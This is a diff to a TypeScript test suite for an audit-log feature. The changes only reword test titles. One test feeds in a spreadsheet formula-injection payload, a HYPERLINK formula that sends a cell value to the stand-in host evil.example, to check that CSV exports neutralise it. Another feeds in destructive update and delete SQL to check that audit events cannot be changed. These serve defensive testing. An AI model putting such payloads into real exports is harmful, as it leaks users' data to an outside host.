@@ -39,7 +39,7 @@ describe('the audit log', () => {
     assert.match(event.requestId, /^req_/);
   });
 
-  it('everything that changes something leaves an event, by people and by keys', async () => {
+  it('every change leaves an event, by people and by keys', async () => {
     const made: [string, string, unknown, string][] = [
       ['POST', '/v1/api-keys', { name: 'k' }, 'api_key.created'],
       ['PATCH', '/v1/organization', { name: 'O' }, 'organization.updated'],
@@ -80,7 +80,7 @@ describe('the audit log', () => {
     assert.equal(await count(), before);
   });
 
-  it('refused sign-ins are there, of people and of nobody', async () => {
+  it('refused sign-ins are recorded, of people and of unknown users', async () => {
     for (const email of ['ada@example.com', 'eve@example.com']) {
       await openBrowser(service).request('POST', '/auth/sign-in', { email, password: 'wrong' });
       const event = await newest('session.created');
@@ -89,7 +89,7 @@ describe('the audit log', () => {
     }
   });
 
-  it('no statement changes or removes an event; age by the setting does, and nothing younger', async () => {
+  it('no statement changes or removes an event; only the age setting removes old ones', async () => {
     for (const statement of [
       `update audit_events set action = 'x'`,
       'delete from audit_events',
@@ -106,7 +106,7 @@ describe('the audit log', () => {
     assert.equal(await deleteAuditEventsOlderThan(service.api.platform.database, 30), 0);
   });
 
-  it('pages and filters give each event once', async () => {
+  it('pages and filters return each event once', async () => {
     const seen: string[] = [];
     let cursor = '';
     do {
@@ -130,7 +130,7 @@ describe('the audit log', () => {
     assert.equal((await owner.request('GET', '/v1/audit-events?cursor=x')).status, 400);
   });
 
-  it('CSV runs as no formula in a spreadsheet, and JSONL is one object a line', async () => {
+  it('CSV contains no formula that a spreadsheet runs, and JSONL is one object a line', async () => {
     const name = '=HYPERLINK("https://evil.example?x="&A1,"click")';
     await service.request('POST', '/v1/api-keys', { body: { name } });
     await service.request('POST', '/v1/api-keys', { body: { name: '  @SUM(1)\nnext, "line"' } });
@@ -150,7 +150,7 @@ describe('the audit log', () => {
     assert.equal((await owner.request('GET', '/v1/audit-events/export?format=xml')).status, 400);
   });
 
-  it('a long log is exported as a stream, whole', async () => {
+  it('a long log is exported as a stream, completely', async () => {
     await sql(
       `insert into audit_events (organization_id, actor_kind, actor_name, action, result)
        select $1, 'system', 'system', 'test.filled', 'success' from generate_series(1, 5000)`,
@@ -162,7 +162,7 @@ describe('the audit log', () => {
     assert.ok(performance.now() - startedMs < 20_000);
   });
 
-  it('an editor does not read it', async () => {
+  it('an editor cannot read it', async () => {
     const editor = await invite(service, owner, { email: 'editor@example.com', role: 'editor' });
     assert.equal((await editor.request('GET', '/v1/audit-events')).json.code, 'insufficient_scope');
     assert.equal((await editor.request('GET', '/v1/audit-events/export?format=csv')).json.code, 'insufficient_scope');
